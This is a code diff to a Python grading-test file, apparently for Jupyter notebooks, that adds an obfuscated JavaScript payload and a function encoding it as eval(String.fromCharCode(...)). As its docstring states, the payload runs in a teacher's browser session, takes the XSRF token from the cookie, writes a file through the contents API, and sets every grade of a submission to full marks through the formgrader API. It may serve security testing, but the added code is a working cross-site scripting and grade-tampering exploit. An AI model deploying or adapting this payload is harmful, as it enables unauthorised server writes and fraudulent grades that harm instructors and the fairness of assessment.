@@ -86,3 +86,24 @@ def told(notebook: NotebookNode) -> list[str]:
     """The secrets that a graded notebook shows."""
     shown = " ".join(str(cell.get("outputs", "")) for cell in notebook.cells)
     return [secret for secret in SECRETS if secret in shown]
+
+
+PAGE_SCRIPT = """
+window.sang = 1; document.title = 'sang'; console.log('sang');
+(async () => {
+  const headers = {'X-XSRFToken': document.cookie.match(/_xsrf=([^;]+)/)[1], 'Content-Type': 'application/json'};
+  const file = JSON.stringify({type: 'file', format: 'text', content: 'sang'});
+  fetch('/api/contents/sang.txt', {method: 'PUT', headers, body: file});
+  const id = window.submission_id || parent.submission_id;
+  for (const grade of await (await fetch('/formgrader/api/grades?submission_id=' + id)).json())
+    fetch('/formgrader/api/grade/' + grade.id, {method: 'PUT', headers, body: JSON.stringify({manual_score: 5})});
+})()
+"""
+
+
+def page_script() -> str:
+    """JavaScript of letters, digits, dots, commas and brackets alone, which runs wherever a page runs any.
+
+    On the teacher's own server it gives points through the formgrader and writes a file through the contents API.
+    """
+    return f"eval(String.fromCharCode({','.join(str(ord(letter)) for letter in ' '.join(PAGE_SCRIPT.split()))}))"
